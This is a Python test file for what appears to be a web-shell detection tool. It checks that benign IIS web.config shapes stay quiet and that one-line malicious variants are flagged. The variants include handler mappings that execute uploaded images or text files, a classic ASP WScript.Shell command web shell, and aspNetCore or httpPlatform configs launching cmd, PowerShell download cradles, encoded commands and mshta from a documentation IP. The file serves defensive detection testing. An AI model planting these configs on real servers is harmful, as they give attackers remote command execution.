"""web.config files of many applications: closest quiet shapes (issue 14, helper B13).

The benign set of session 15 (``/tmp/benign29``, never in the project; BENCHMARKS.md, "False positives on unseen
benign pages XIII: web.config files of many applications") is 100 configuration files of 98 applications taken in
the library's index order from the repositories holding ``Web.config``, ``web.config``, ``uploads/web.config``,
``admin/web.config``, ``Web.Release.config``, ``public/web.config``, ``wwwroot/web.config`` and Sitecore's
``App_Config/ConnectionStrings.config``: ASP.NET MVC and Web Forms applications, ASP.NET Core and iisnode hosting
files, single-page-application rewrites, PHP sites on IIS, upload folders locked down, admin folders with their own
authorization, configuration transforms. None raised a finding (own rules, behaviour, signature-base).

The files below are written for these tests (no file of the set is copied; names, paths and values are new) in the
shapes of the set that sit closest to what the configuration checks look for: a server's whole handler list exported
into an application folder (``*.cer`` and ``*.asp`` to ``asp.dll``, ``*.exe`` to the CGI module, ``*.dll`` to the
ISAPI module, ``*.php`` to FastCGI), an upload folder that clears its handlers and refuses ``.config``, a node.js
site that un-hides ``bin``, a PHP handler with script and execute access, a "block PHP" mapping to the ISAPI module
with no processor, a report build provider for ``.rdlc``, the ASP.NET AJAX handlers of a 3.5 application, a
``httpPlatform`` host that starts ``bash`` with a script, and an application ``web.config`` with a ``machineKey``,
connection strings and a ``<location>`` block. They must raise no finding at all (YARA or behaviour); each has a
one-line variant (``MUTANTS``) that must be found, with the check that finds it, so the tests can fail.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from extriage.detections.webfiles import content

from .rule_tables import page_hits, quiet_pages_test, rule_tables, shown

_HANDLER_LIST_EXPORT = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    "<configuration>\n"
    "  <system.webServer>\n"
    "    <handlers>\n"
    "      <clear />\n"
    '      <add name="php-8.1" path="*.php" verb="GET,HEAD,POST" modules="FastCgiModule"'
    ' scriptProcessor="E:\\runtimes\\php81\\php-cgi.exe" resourceType="Either" requireAccess="Script" />\n'
    '      <add name="ASPClassic" path="*.asp" verb="GET,HEAD,POST" modules="IsapiModule"'
    ' scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="File" />\n'
    '      <add name="SecurityCertificate" path="*.cer" verb="GET,HEAD,POST" modules="IsapiModule"'
    ' scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="File" />\n'
    '      <add name="ISAPI-dll" path="*.dll" verb="*" modules="IsapiModule" resourceType="File"'
    ' requireAccess="Execute" allowPathInfo="true" />\n'
    '      <add name="CGI-exe" path="*.exe" verb="*" modules="CgiModule" resourceType="File"'
    ' requireAccess="Execute" allowPathInfo="true" />\n'
    '      <add name="PageHandlerFactory-ISAPI-4.0_64bit" path="*.aspx" verb="GET,HEAD,POST,DEBUG"'
    ' modules="IsapiModule" scriptProcessor="%windir%\\Microsoft.NET\\Framework64\\v4.0.30319\\aspnet_isapi.dll"'
    ' preCondition="classicMode,runtimeVersionv4.0,bitness64" responseBufferLimit="0" />\n'
    '      <add name="cshtml-Integrated-4.0" path="*.cshtml" verb="GET,HEAD,POST,DEBUG"'
    ' type="System.Web.HttpForbiddenHandler" preCondition="integratedMode,runtimeVersionv4.0" />\n'
    '      <add name="StaticFile" path="*" verb="*" modules="StaticFileModule,DefaultDocumentModule"'
    ' resourceType="Either" requireAccess="Read" />\n'
    "    </handlers>\n"
    "    <defaultDocument>\n"
    '      <files><clear /><add value="index.php" /><add value="default.aspx" /></files>\n'
    "    </defaultDocument>\n"
    "  </system.webServer>\n"
    "</configuration>\n"
)
_UPLOADS_LOCKED_DOWN = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    "<!-- files people send us: never run anything from here -->\n"
    "<configuration>\n"
    "  <system.webServer>\n"
    '    <directoryBrowse enabled="false" />\n'
    '    <handlers accessPolicy="Read">\n'
    "      <clear />\n"
    '      <add name="MediaOnly" path="*" verb="GET,HEAD" modules="StaticFileModule" resourceType="File"'
    ' requireAccess="Read" />\n'
    "    </handlers>\n"
    "    <security>\n"
    "      <requestFiltering>\n"
    '        <fileExtensions allowUnlisted="true">\n'
    '          <add fileExtension=".aspx" allowed="false" />\n'
    '          <add fileExtension=".ashx" allowed="false" />\n'
    '          <add fileExtension=".config" allowed="false" />\n'
    "        </fileExtensions>\n"
    "      </requestFiltering>\n"
    "    </security>\n"
    "    <staticContent>\n"
    '      <remove fileExtension=".webp" />\n'
    '      <mimeMap fileExtension=".webp" mimeType="image/webp" />\n'
    "    </staticContent>\n"
    "  </system.webServer>\n"
    "</configuration>\n"
)
_NODE_SITE_UNHIDES_BIN = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    "<configuration>\n"
    "  <system.webServer>\n"
    "    <handlers>\n"
    '      <add name="iisnode" path="main.js" verb="*" modules="iisnode" />\n'
    "    </handlers>\n"
    "    <rewrite>\n"
    "      <rules>\n"
    '        <rule name="Assets"><action type="Rewrite" url="static{REQUEST_URI}" /></rule>\n'
    '        <rule name="App">\n'
    '          <conditions><add input="{REQUEST_FILENAME}" matchType="IsFile" negate="True" /></conditions>\n'
    '          <action type="Rewrite" url="main.js" />\n'
    "        </rule>\n"
    "      </rules>\n"
    "    </rewrite>\n"
    "    <security>\n"
    "      <requestFiltering>\n"
    "        <hiddenSegments>\n"
    '          <remove segment="bin" />\n'
    '          <add segment="node_modules" />\n'
    "        </hiddenSegments>\n"
    "      </requestFiltering>\n"
    "    </security>\n"
    '    <iisnode node_env="production" watchedFiles="web.config;*.js" />\n'
    "  </system.webServer>\n"
    "</configuration>\n"
)
_PHP_SCRIPT_AND_EXECUTE = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    "<configuration>\n"
    "  <system.webServer>\n"
    '    <handlers accessPolicy="Read, Execute, Script">\n'
    '      <add name="PHP_FastCGI" path="*.php" verb="*" modules="FastCgiModule"'
    ' scriptProcessor="C:\\stack\\php\\php-cgi.exe" resourceType="Either" />\n'
    "    </handlers>\n"
    "    <httpErrors>\n"
    '      <remove statusCode="404" subStatusCode="-1" />\n'
    '      <error statusCode="404" prefixLanguageFilePath="%SystemDrive%\\sites\\errors" path="404.html"'
    ' responseMode="File" />\n'
    "    </httpErrors>\n"
    "  </system.webServer>\n"
    "</configuration>\n"
)
_BLOCK_PHP_MAPPING = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    "<configuration>\n"
    "<system.webServer>\n"
    "<handlers>\n"
    '<remove name="PHP_via_FastCGI"/>\n'
    "<add\n"
    'name="NoPhpHere"\n'
    'path="*.php"\n'
    'verb="*"\n'
    'modules="IsapiModule"\n'
    'scriptProcessor=""\n'
    'resourceType="File"\n'
    'requireAccess="None"/>\n'
    "</handlers>\n"
    "</system.webServer>\n"
    "</configuration>\n"
)
_REPORT_BUILD_PROVIDER = (
    '<?xml version="1.0"?>\n'
    "<configuration>\n"
    "  <system.web>\n"
    '    <customErrors mode="RemoteOnly" />\n'
    "    <httpHandlers>\n"
    '      <add path="Reserved.ReportViewerWebControl.axd" verb="*" type="Microsoft.Reporting.WebForms.HttpHandler,'
    ' Microsoft.ReportViewer.WebForms, Version=11.0.0.0, Culture=neutral, PublicKeyToken=89845dcd8080cc91"'
    ' validate="false" />\n'
    "    </httpHandlers>\n"
    '    <compilation debug="false" targetFramework="4.6.1">\n'
    "      <buildProviders>\n"
    '        <add extension=".rdlc" type="Microsoft.Reporting.RdlBuildProvider, Microsoft.ReportViewer.WebForms,'
    ' Version=11.0.0.0, Culture=neutral, PublicKeyToken=89845dcd8080cc91" />\n'
    "      </buildProviders>\n"
    "    </compilation>\n"
    "  </system.web>\n"
    "</configuration>\n"
)
_AJAX_35_HANDLERS = (
    '<?xml version="1.0"?>\n'
    "<configuration>\n"
    "  <system.web>\n"
    "    <httpHandlers>\n"
    '      <remove verb="*" path="*.asmx"/>\n'
    '      <add verb="*" path="*.asmx" validate="false" type="System.Web.Script.Services.ScriptHandlerFactory,'
    ' System.Web.Extensions, Version=3.5.0.0, Culture=neutral, PublicKeyToken=31BF3856AD364E35"/>\n'
    '      <add verb="*" path="*_AppService.axd" validate="false" type="System.Web.Script.Services.ScriptHandlerFactory,'
    ' System.Web.Extensions, Version=3.5.0.0, Culture=neutral, PublicKeyToken=31BF3856AD364E35"/>\n'
    '      <add verb="GET,HEAD" path="ScriptResource.axd" validate="false" type="System.Web.Handlers.ScriptResourceHandler,'
    ' System.Web.Extensions, Version=3.5.0.0, Culture=neutral, PublicKeyToken=31BF3856AD364E35"/>\n'
    "    </httpHandlers>\n"
    "    <httpModules>\n"
    '      <add name="ScriptModule" type="System.Web.Handlers.ScriptModule, System.Web.Extensions, Version=3.5.0.0,'
    ' Culture=neutral, PublicKeyToken=31BF3856AD364E35"/>\n'
    "    </httpModules>\n"
    "  </system.web>\n"
    "</configuration>\n"
)
_PLATFORM_HOST_STARTS_SCRIPT = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    "<configuration>\n"
    "  <system.webServer>\n"
    "    <handlers>\n"
    '      <add name="PlatformHandler" path="*" verb="*" modules="httpPlatformHandler" resourceType="Unspecified"/>\n'
    "    </handlers>\n"
    '    <httpPlatform processPath="bash" arguments="run-site.sh" stdoutLogEnabled="true"'
    ' stdoutLogFile="\\\\?\\%home%\\LogFiles\\site-out" startupTimeLimit="90">\n'
    "      <environmentVariables>\n"
    '        <environmentVariable name="PORT" value="%HTTP_PLATFORM_PORT%" />\n'
    "      </environmentVariables>\n"
    "    </httpPlatform>\n"
    "  </system.webServer>\n"
    "</configuration>\n"
)
_APP_CONFIG_WITH_KEYS = (
    '<?xml version="1.0"?>\n'
    "<configuration>\n"
    "  <connectionStrings>\n"
    '    <add name="Ledger" connectionString="Data Source=10.20.30.40;Initial Catalog=Ledger;User ID=app;'
    'Password=Example#1" providerName="System.Data.SqlClient"/>\n'
    '    <add name="ImportSheet" connectionString="Provider=Microsoft.ACE.OLEDB.12.0;Data Source={0};'
    "Extended Properties='Excel 12.0;HDR=YES'\"/>\n"
    "  </connectionStrings>\n"
    "  <system.web>\n"
    '    <machineKey validationKey="00112233445566778899AABBCCDDEEFF00112233445566778899AABBCCDDEEFF"'
    ' decryptionKey="FFEEDDCCBBAA99887766554433221100FFEEDDCCBBAA9988" validation="HMACSHA256" decryption="AES"/>\n'
    '    <customErrors mode="Off"/>\n'
    '    <httpRuntime executionTimeout="3600" maxRequestLength="512000"/>\n'
    "  </system.web>\n"
    '  <location path="staff">\n'
    "    <system.web>\n"
    '      <authorization><allow roles="Manager"/><deny users="*"/></authorization>\n'
    "    </system.web>\n"
    "  </location>\n"
    "  <system.webServer>\n"
    '    <security><requestFiltering><requestLimits maxAllowedContentLength="524288000"/></requestFiltering></security>\n'
    '    <defaultDocument><files><add value="Start.aspx"/></files></defaultDocument>\n'
    "  </system.webServer>\n"
    "</configuration>\n"
)

QUIET_CONFIGS = [
    ("server-handler-list-exported-into-a-folder", "admin/web.config", _HANDLER_LIST_EXPORT),
    ("upload-folder-clears-its-handlers", "uploads/web.config", _UPLOADS_LOCKED_DOWN),
    ("node-site-unhides-bin", "web.config", _NODE_SITE_UNHIDES_BIN),
    ("php-handler-with-script-and-execute-access", "web.config", _PHP_SCRIPT_AND_EXECUTE),
    ("block-php-mapping-to-the-isapi-module", "uploads/web.config", _BLOCK_PHP_MAPPING),
    ("report-build-provider-for-rdlc", "Web.config", _REPORT_BUILD_PROVIDER),
    ("aspnet-ajax-35-handlers", "Web.config", _AJAX_35_HANDLERS),
    ("platform-host-starts-bash-with-a-script", "web.config", _PLATFORM_HOST_STARTS_SCRIPT),
    ("app-config-with-machine-key-and-location", "Web.config", _APP_CONFIG_WITH_KEYS),
]

#: (case, file name, a check that must report it - a YARA rule or a behaviour sink -, the one-edit variant)
MUTANTS = [
    (
        "handler-list-also-runs-txt-as-classic-asp",
        "admin/web.config",
        "config-handler",
        _HANDLER_LIST_EXPORT.replace(
            '      <add name="StaticFile"',
            '      <add name="TextAsAsp" path="*.txt" verb="*" modules="IsapiModule"'
            ' scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="File" />\n'
            '      <add name="StaticFile"',
        ),
    ),
    (
        "upload-folder-serves-config-and-unhides-web-config",
        "uploads/web.config",
        "config-unhide",
        _UPLOADS_LOCKED_DOWN.replace(
            '      <mimeMap fileExtension=".webp" mimeType="image/webp" />\n',
            '      <mimeMap fileExtension=".webp" mimeType="image/webp" />\n'
            '      <mimeMap fileExtension=".config" mimeType="text/plain" />\n'
            '    </staticContent>\n    <security><requestFiltering><hiddenSegments><remove segment="web.config" />'
            "</hiddenSegments></requestFiltering></security>\n    <staticContent>\n",
        ),
    ),
    (
        "node-site-unhides-web-config-and-maps-config",
        "web.config",
        "config-unhide",
        _NODE_SITE_UNHIDES_BIN.replace(
            '          <remove segment="bin" />\n', '          <remove segment="web.config" />\n'
        ).replace(
            '      <add name="iisnode" path="main.js"',
            '      <add name="cfg" path="*.config" verb="*" modules="iisnode" />\n      <add name="iisnode" path="main.js"',
        ),
    ),
    (
        "php-handler-runs-png",
        "web.config",
        "config-handler",
        _PHP_SCRIPT_AND_EXECUTE.replace('path="*.php"', 'path="*.png"'),
    ),
    (
        "isapi-mapping-for-jpg",
        "uploads/web.config",
        "config-handler",
        _BLOCK_PHP_MAPPING.replace('path="*.php"', 'path="*.jpg"'),
    ),
    (
        "rdlc-compiled-as-a-page",
        "Web.config",
        "EXT_WEBSHELL_Config_Extension_Compiled_As_Page",
        _REPORT_BUILD_PROVIDER.replace(
            'type="Microsoft.Reporting.RdlBuildProvider, Microsoft.ReportViewer.WebForms,'
            ' Version=11.0.0.0, Culture=neutral, PublicKeyToken=89845dcd8080cc91"',
            'type="System.Web.Compilation.PageBuildProvider"',
        ),
    ),
    (
        "txt-handled-as-a-simple-handler",
        "Web.config",
        "config-handler",
        _AJAX_35_HANDLERS.replace(
            '      <add verb="GET,HEAD" path="ScriptResource.axd"',
            '      <add verb="*" path="*.txt" type="System.Web.UI.SimpleHandlerFactory"/>\n'
            '      <add verb="GET,HEAD" path="ScriptResource.axd"',
        ),
    ),
    (
        "platform-host-unhides-web-config-and-maps-config",
        "web.config",
        "config-unhide",
        _PLATFORM_HOST_STARTS_SCRIPT.replace(
            "    </handlers>\n",
            '      <add name="cfg" path="*.config" verb="*" modules="httpPlatformHandler" resourceType="Unspecified"/>\n'
            "    </handlers>\n"
            '    <security><requestFiltering><hiddenSegments><remove segment="web.config"/></hiddenSegments>'
            "</requestFiltering></security>\n",
        ),
    ),
    (
        "app-config-carries-classic-asp-code",
        "Web.config",
        "shell-object",
        _APP_CONFIG_WITH_KEYS
        + '<!-- <% Response.Write(CreateObject("WScript.Shell").Exec("cmd /c " & Request("c")).StdOut.ReadAll()) %> -->\n',
    ),
]

test_benign_config_shape_raises_no_finding = quiet_pages_test([(c, f"/{n}", t) for c, n, t in QUIET_CONFIGS])


def _checks(tmp_path: Path, name: str, text: str, params: content.ContentParams) -> set[str]:
    hits = page_hits(tmp_path, name, text, params)
    return {str(h.get("rule") or h.get("sink")) for h in hits}


@pytest.mark.parametrize(("case", "name", "check", "text"), MUTANTS, ids=[m[0] for m in MUTANTS])
def test_one_line_variant_of_a_quiet_config_shape_is_found(
    tmp_path: Path, params: content.ContentParams, case: str, name: str, check: str, text: str
) -> None:
    found = _checks(tmp_path, f"{case}/{name}", text, params)
    assert check in found, (check, found)


def test_mutants_differ_from_their_quiet_config() -> None:
    """Each variant really changes its quiet file (a replace that matched nothing would test the quiet file)."""
    quiet = {text for _, _, text in QUIET_CONFIGS}
    assert all(text not in quiet for _, _, _, text in MUTANTS)
    assert len(MUTANTS) == len(QUIET_CONFIGS)


def test_quiet_configs_are_examined_as_configuration(tmp_path: Path, params: content.ContentParams) -> None:
    """The quiet files are read by the configuration checks at all: the same folder's web.config with a .config
    handler and the hidden segment removed is reported (a check skipped for these paths would pass the quiet
    tests for nothing)."""
    probe = _UPLOADS_LOCKED_DOWN.replace(
        "      <clear />\n",
        '      <clear />\n      <add name="c" path="*.config" verb="*" modules="IsapiModule"'
        ' scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" />\n',
    ).replace(
        "<security>",
        '<security><requestFiltering><hiddenSegments><remove segment="web.config" />'
        "</hiddenSegments></requestFiltering>",
    )
    hits = page_hits(tmp_path, "probe/uploads/web.config", probe, params)
    assert {"config-handler", "config-unhide"} <= {str(h.get("sink")) for h in hits}, shown(hits)


# --- a web.config that starts a command interpreter (data/rules/config_process_launch.yar) ----------------------------
# Write-ups quoted in the library's answer for ``processPath="cmd`` (session 15) upload a web.config whose ASP.NET
# Core Module element starts cmd.exe with a download cradle, under a handler path of their own or under "*"; nothing
# found them. The configs below are written for these tests (harmless: documentation addresses, nothing fetched).

_CORE_HOSTING = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    "<configuration>\n"
    '  <location path="." inheritInChildApplications="false">\n'
    "    <system.webServer>\n"
    "      <handlers>\n"
    '        <add name="aspNetCore" path="{path}" verb="*" modules="AspNetCoreModuleV2" resourceType="Unspecified" />\n'
    "      </handlers>\n"
    '      <aspNetCore {attrs} stdoutLogEnabled="false" hostingModel="OutOfProcess" />\n'
    "    </system.webServer>\n"
    "  </location>\n"
    "</configuration>\n"
)


def _core(path: str, attrs: str) -> str:
    return _CORE_HOSTING.replace("{path}", path).replace("{attrs}", attrs)


LAUNCH_CONFIGS = [
    (
        "cmd-fetches-with-iwr-under-its-own-path",
        ".config",
        _core(
            "probe",
            "processPath=\"cmd.exe\" arguments='/c echo IWR http://192.0.2.7/t.txt | powershell -nop'",
        ),
    ),
    (
        "cmd-runs-a-download-cradle-under-star",
        ".config",
        _core(
            "*",
            'processPath="cmd.exe" arguments="/c powershell iex (New-Object Net.WebClient)'
            ".DownloadString('http://192.0.2.7/a.ps1')\"",
        ),
    ),
    (
        "arguments-before-a-full-powershell-path",
        ".config",
        _core(
            "*",
            'arguments="-nop -enc SQBFAFgA" processPath="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"',
        ),
    ),
    (
        "cmd-under-a-path-of-its-own",
        ".config",
        _core("backdoor.me", 'processPath="cmd.exe" arguments="/c ver"'),
    ),
    (
        "powershell-encoded-command-under-star",
        ".config",
        _core("*", 'processPath="powershell" arguments="-e JABjAD0AIgBoAGUAbABsAG8AIgA7ACAAJABjAA=="'),
    ),
    (
        "http-platform-starts-mshta",
        ".config",
        _PLATFORM_HOST_STARTS_SCRIPT.replace(
            'processPath="bash" arguments="run-site.sh"',
            'processPath="mshta.exe" arguments="http://192.0.2.7/x.hta"',
        ),
    ),
]
LAUNCH_ORDINARY = [
    ("core-app-started-by-dotnet", ".config", _core("*", 'processPath="dotnet" arguments=".\\Shop.Web.dll"')),
    ("core-app-started-by-its-exe", ".config", _core("*", 'processPath=".\\Shop.Web.exe" arguments=""')),
    (
        "core-app-started-by-launcher",
        ".config",
        _core("*", 'processPath="%LAUNCHER_PATH%" arguments="%LAUNCHER_ARGS%"'),
    ),
    (
        "cmd-runs-the-sites-own-start-script",
        ".config",
        _core("*", 'processPath="cmd.exe" arguments="/c run.cmd"'),
    ),
    (
        "cmd-starts-node-under-star",
        ".config",
        _PLATFORM_HOST_STARTS_SCRIPT.replace(
            'processPath="bash" arguments="run-site.sh"',
            'processPath="cmd.exe" arguments="/c node .\\server.js"',
        ),
    ),
    (
        "powershell-runs-a-local-script",
        ".config",
        _core("*", 'processPath="powershell.exe" arguments="-File .\\start.ps1"'),
    ),
    ("platform-host-starts-bash", ".config", _PLATFORM_HOST_STARTS_SCRIPT),
    (
        "powershell-web-server-with-execution-policy",
        ".config",
        _core(
            "*",
            'processPath="powershell.exe" arguments="-ExecutionPolicy Bypass -File .\\universal-automation.ps1"',
        ),
    ),
    (
        "powershell-web-server-script",
        ".config",
        _core("*", 'processPath="powershell.exe" arguments=".\\server.ps1"'),
    ),
]

(
    test_config_starting_an_interpreter_is_found,
    test_hosting_config_is_not_flagged,
    test_log_quoting_such_a_config_is_not_a_page,
) = rule_tables([("EXT_WEBSHELL_Config_Starts_Command_Interpreter", LAUNCH_CONFIGS, LAUNCH_ORDINARY)])
